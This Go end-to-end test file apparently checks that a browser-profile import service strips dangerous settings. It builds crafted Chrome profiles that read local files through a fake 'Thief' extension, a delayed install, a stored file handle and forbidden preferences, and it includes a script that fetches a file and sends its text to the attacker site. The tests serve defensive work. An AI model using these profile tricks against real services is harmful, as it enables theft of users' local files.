package e2e

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/stasisd/stasis/e2e/daemon"
	"github.com/stasisd/stasis/snapshot/storetest"
)

// TestAttackProfiles imports profiles that are made to read files without an address
// that shows it. Only what Stasis removes from a profile could stop them, so they are
// tried without Landlock. Those with a stored file handle share one profile, and differ
// in its preferences; in make test one import has all of them, because each alone would
// let the page read the file.
func TestAttackProfiles(t *testing.T) {
	t.Parallel()
	// As with the tag stasis_no_landlock, but the routes to files use this binary too.
	d := daemon.Start(t, byOrdinaryUser(t, daemon.Options{Tags: []string{noBlocklist}, Args: []string{"--no-landlock"}, NoSpares: true, Unraced: true}))
	l := makeWantedFiles(t)
	keeper := newFileAttacker(t, d, l)
	keeper.storeHandle()
	limit := make(chan struct{}, triesAtOnce)
	var cases sync.WaitGroup
	for _, c := range []struct {
		name string
		take func(*fileAttacker)
		long int // whether only make test (-1) or make test-long (1) has it
	}{
		{"an extension whose folder has no name", byNamelessFolder, 0},
		{"an installation that was put off", byDelayedInstall, 0},
		{"a file that a page kept in IndexedDB", byFileHandle, 1},
		{"a download that was interrupted", byResumedDownload, 0},
		{"such a file and an administrator's setting", byManagedSetting, 1},
		{"such a file and an extension's preference", byExtensionsPreference, 1},
		{"such a file and an extension's content setting", byExtensionsContentSetting, 1},
		{"such a file and all these settings", byAllSettings, -1},
	} {
		if storetest.Long() && c.long < 0 || !storetest.Long() && c.long > 0 {
			continue
		}
		cases.Go(func() {
			limit <- struct{}{}
			defer func() { <-limit }()
			t.Run(c.name, func(t *testing.T) {
				x := newFileAttacker(t, d, l)
				x.engine, x.keeper = "chrome", keeper
				c.take(x)
				x.watch()
				x.count()
				x.leave()
			})
		})
	}
	cases.Wait()
}

// newExtension returns a manifest with a key, and the ID that the key gives.
func newExtension(t *testing.T) (id string, manifest obj) {
	t.Helper()
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	public, err := x509.MarshalPKIXPublicKey(&key.PublicKey)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(public)
	id = strings.Map(func(r rune) rune {
		if r <= '9' {
			return r - '0' + 'a'
		}
		return r - 'a' + 'k'
	}, fmt.Sprintf("%x", sum[:16]))
	return id, obj{"manifest_version": 3, "name": "Thief", "version": "1.0", "key": base64.StdEncoding.EncodeToString(public),
		"permissions": []string{"tabs", "downloads"}, "host_permissions": []string{"<all_urls>", "file:///*"},
		"web_accessible_resources": []obj{{"resources": []string{"*"}, "matches": []string{"<all_urls>"}}}}
}

// preferencesWith returns a profile's preferences with one extension.
func preferencesWith(t *testing.T, id string, entry obj) []byte {
	t.Helper()
	return asJSON(t, obj{"profile": obj{"exit_type": "Normal"},
		"extensions": obj{"ui": obj{"developer_mode": true}, "settings": obj{id: entry}}})
}

func asJSON(t *testing.T, v any) []byte {
	t.Helper()
	raw, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

// byNamelessFolder imports an archive whose profile has an extension that was not
// uploaded. Its folder has an empty name, which is the profile's own Extensions folder.
func byNamelessFolder(x *fileAttacker) {
	id, manifest := newExtension(x.t)
	granted := obj{"api": []string{"tabs"}, "explicit_host": []string{"<all_urls>", "file:///*"}, "manifest_permissions": []string{}, "scriptable_host": []string{}}
	entry := obj{"path": "", "location": 1, "state": 1, "manifest": manifest, "creation_flags": 5, "newAllowFileAccess": true,
		"disable_reasons": []int{}, "active_permissions": granted, "granted_permissions": granted, "first_install_time": "13380000000000000"}
	script := `fetch("` + x.wanted[0].url() + `").then(r => r.text()).then(t => fetch("` + x.site.URL + `/?" + encodeURIComponent(t), {mode: "no-cors"}))`
	var archive bytes.Buffer
	w := tar.NewWriter(&archive)
	for _, f := range []struct {
		name string
		data []byte
	}{
		{"Default/Extensions/manifest.json", asJSON(x.t, manifest)},
		{"Default/Extensions/page.html", []byte(`<script src="page.js"></script>`)},
		{"Default/Extensions/page.js", []byte(script)},
		{"Default/Preferences", preferencesWith(x.t, id, entry)},
		{"state.json", []byte(`{"schema_version":"1","datadir":"clean"}`)},
	} {
		err := w.WriteHeader(&tar.Header{Name: f.name, Mode: 0o600, Typeflag: tar.TypeReg, Size: int64(len(f.data))})
		if err == nil {
			_, err = w.Write(f.data)
		}
		if err != nil {
			x.t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		x.t.Fatal(err)
	}
	a := imports(x.t, x.d, "stasis", archive.Bytes())
	x.enter(obj{"restore_from_environment_id": a.Snapshot.ID})
	page, _ := x.newPage("/")
	x.eval(page, `document.body.append(Object.assign(document.createElement("iframe"), {src: "chrome-extension://`+id+`/page.html"}))`)
}

// byDelayedInstall imports a profile in which an uploaded extension waits for an update
// from the folder that has the file.
func byDelayedInstall(x *fileAttacker) {
	id, entry := x.uploaded()
	later := obj{"path": filepath.Dir(x.wanted[0].path), "location": 4, "state": 1, "manifest": entry["manifest"], "creation_flags": 5,
		"delay_install_reason": 1, "install_time": "13380000000000000"}
	entry["idle_install_info"] = later
	a := imports(x.t, x.d, "datadir", zipFiles(x.t, map[string][]byte{
		"profile/Local State": []byte(`{}`), "profile/Default/Preferences": preferencesWith(x.t, id, entry)}))
	x.enter(obj{"restore_from_environment_id": a.Snapshot.ID, "extensions": []string{id}})
	page, _ := x.newPage("/")
	x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/page.html"})
	daemon.Eventually(x.t, grace, "the extension's page or the file is shown", func() bool {
		x.eval(page, `fetch("/`+filepath.Base(x.wanted[0].path)+`").then(r => r.text()).then(t => console.log(t), String)`)
		x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/" + filepath.Base(x.wanted[0].path)})
		if strings.Contains(x.eval(page, `document.documentElement.innerText`), x.wanted[0].text) {
			return true
		}
		x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/page.html"})
		return x.eval(page, `document.title`) == "own"
	})
}

// byFileHandle imports a profile whose page has stored a handle of the file, with
// settings that let the page read it.
func byFileHandle(x *fileAttacker) { x.readHandle(nil, obj{"profile": x.pageSettings()}) }

// pageSettings returns preferences that let the page of a stored handle read its file.
func (x *fileAttacker) pageSettings() obj {
	site := x.keeper.site.URL
	allow := obj{site + ",*": obj{"setting": 1}}
	chosen := obj{"chosen-objects": []obj{{"display-name": "x", "is-directory": false, "path": x.wanted[0].path, "path-type": 0, "readable": true, "writable": true}}}
	return obj{
		"default_content_setting_values": obj{"file_system_read_guard": 1, "file_system_write_guard": 1},
		"content_settings": obj{"exceptions": obj{"file_system_read_guard": allow, "file_system_write_guard": allow,
			"file_system_access_extended_permission": allow, "file_system_access_chooser_data": obj{site + "," + site: obj{"setting": chosen}}}}}
}

// byManagedSetting imports a profile with such a handle, and with a content setting as
// an administrator's policy sets it.
func byManagedSetting(x *fileAttacker) {
	x.readHandle(nil, obj{"profile": obj{"managed_default_content_settings": managedSettings}})
}

// managedSettings are content settings as an administrator's policy sets them.
var managedSettings = obj{"file_system_read_guard": 1, "file_system_write_guard": 1}

// byExtensionsPreference imports a profile with such a handle, and with an uploaded
// extension that has set a forbidden preference.
func byExtensionsPreference(x *fileAttacker) {
	id, entry := x.withPreference()
	x.readHandle([]string{id}, obj{"extensions": obj{"ui": obj{"developer_mode": true}, "settings": obj{id: entry}}})
}

// byExtensionsContentSetting imports a profile with such a handle, and with an uploaded
// extension that has set a forbidden content setting.
func byExtensionsContentSetting(x *fileAttacker) {
	id, entry := x.withContentSetting()
	x.readHandle([]string{id}, obj{"extensions": obj{"ui": obj{"developer_mode": true}, "settings": obj{id: entry}}})
}

// withPreference is uploaded for an extension that has set a forbidden preference.
func (x *fileAttacker) withPreference() (id string, entry obj) {
	x.t.Helper()
	id, entry = x.uploaded()
	entry["preferences"] = obj{"profile.default_content_setting_values.file_system_read_guard": 1}
	return id, entry
}

// withContentSetting is uploaded for an extension that has set a forbidden content setting.
func (x *fileAttacker) withContentSetting() (id string, entry obj) {
	x.t.Helper()
	id, entry = x.uploaded()
	entry["content_settings"] = []obj{{"primaryPattern": "*", "secondaryPattern": "*", "type": "file-system-read-guard", "setting": "allow"}}
	return id, entry
}

// byAllSettings imports a profile with such a handle, with the page's settings, an
// administrator's, and those of two uploaded extensions.
func byAllSettings(x *fileAttacker) {
	profile := x.pageSettings()
	profile["managed_default_content_settings"] = managedSettings
	one, first := x.withPreference()
	two, second := x.withContentSetting()
	x.readHandle([]string{one, two}, obj{"profile": profile,
		"extensions": obj{"ui": obj{"developer_mode": true}, "settings": obj{one: first, two: second}}})
}

// uploaded uploads an extension and returns its entry in a profile's preferences.
func (x *fileAttacker) uploaded() (id string, entry obj) {
	x.t.Helper()
	id, manifest := newExtension(x.t)
	packed := zipFiles(x.t, map[string][]byte{"manifest.json": asJSON(x.t, manifest), "page.html": []byte(`<title>own</title>`)})
	x.d.Send(x.t, daemon.Key, http.MethodPost, "/v1/extensions", bytes.NewReader(packed), http.Header{"Content-Type": {"application/zip"}})
	return id, obj{"path": "/nowhere", "location": 4, "state": 1, "manifest": manifest, "disable_reasons": []int{},
		"first_install_time": "13380000000000000"}
}

// storeHandle makes a profile in which a page of the attacker's site has stored a handle
// of the file.
func (x *fileAttacker) storeHandle() {
	x.profile = profileOf(x.t, func(w *wire, page string) {
		w.open(page, x.site.URL+"/")
		w.eval(page, `document.ondragover = e => e.preventDefault();
			document.ondrop = e => { e.preventDefault(); window.kept = (async () => {
				const h = await e.dataTransfer.items[0].getAsFileSystemHandle();
				const d = await new Promise(ok => { const r = indexedDB.open("d", 1); r.onupgradeneeded = () => r.result.createObjectStore("s"); r.onsuccess = () => ok(r.result) });
				await new Promise(ok => { const t = d.transaction("s", "readwrite"); t.objectStore("s").put(h, "h"); t.oncomplete = ok }); return h.name })() }; 1`)
		for _, kind := range []string{"dragEnter", "dragOver", "drop"} {
			w.call(page, "Input.dispatchDragEvent", obj{"type": kind, "x": 50, "y": 50,
				"data": obj{"items": []obj{}, "files": []string{x.wanted[0].path}, "dragOperationsMask": 1}}, nil)
		}
		daemon.Eventually(x.t, grace, "the page has stored the handle", func() bool { return w.eval(page, `window.kept`) == filepath.Base(x.wanted[0].path) })
	})
}

// readHandle imports the keeper's profile with changed preferences and reads the file by
// the stored handle.
func (x *fileAttacker) readHandle(extensions []string, change obj) {
	x.site = x.keeper.site
	dir := filepath.Join(x.t.TempDir(), "profile")
	if err := os.CopyFS(dir, os.DirFS(x.keeper.profile)); err != nil {
		x.t.Fatal(err)
	}
	page := x.enterWith(dir, extensions, change)
	if got := x.w.eval(page, `(async () => {
		const d = await new Promise((ok, no) => { const r = indexedDB.open("d", 1); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error) });
		window.handle = await new Promise((ok, no) => { const r = d.transaction("s").objectStore("s").get("h"); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error) });
		return handle.name })()`); got != filepath.Base(x.wanted[0].path) {
		x.t.Errorf("the handle was not restored: %s", got)
	}
	x.eval(page, `handle.getFile().then(f => f.text()).then(t => console.log(t), String)`)
	x.eval(page, `handle.getFile().then(f => f.text())`)
}

// enterWith imports a profile with changed preferences and creates a session from it,
// with extensions. It returns a page of the attacker's site.
func (x *fileAttacker) enterWith(dir string, extensions []string, change obj) (page string) {
	x.t.Helper()
	file := filepath.Join(dir, "Default", "Preferences")
	raw, err := os.ReadFile(file)
	if err != nil {
		x.t.Fatal(err)
	}
	var prefs map[string]any
	if err := json.Unmarshal(raw, &prefs); err != nil {
		x.t.Fatal(err)
	}
	for name, value := range change {
		of, is := prefs[name].(map[string]any)
		values, ok := value.(obj)
		if !is || !ok {
			x.t.Fatalf("no %s in %s", name, raw)
		}
		maps.Copy(of, values)
	}
	if err := os.WriteFile(file, asJSON(x.t, prefs), 0o600); err != nil {
		x.t.Fatal(err)
	}
	a := imports(x.t, x.d, "datadir", zipOf(x.t, dir, "profile"))
	body := obj{"restore_from_environment_id": a.Snapshot.ID}
	if len(extensions) > 0 {
		body["extensions"] = extensions
	}
	x.enter(body)
	page, _ = x.newPage("/")
	return page
}

// zipFiles makes a zip of files by their names.
func zipFiles(t *testing.T, files map[string][]byte) []byte {
	t.Helper()
	var packed bytes.Buffer
	z := zip.NewWriter(&packed)
	for name, data := range files {
		f, err := z.Create(name)
		if err == nil {
			_, err = f.Write(data)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return packed.Bytes()
}
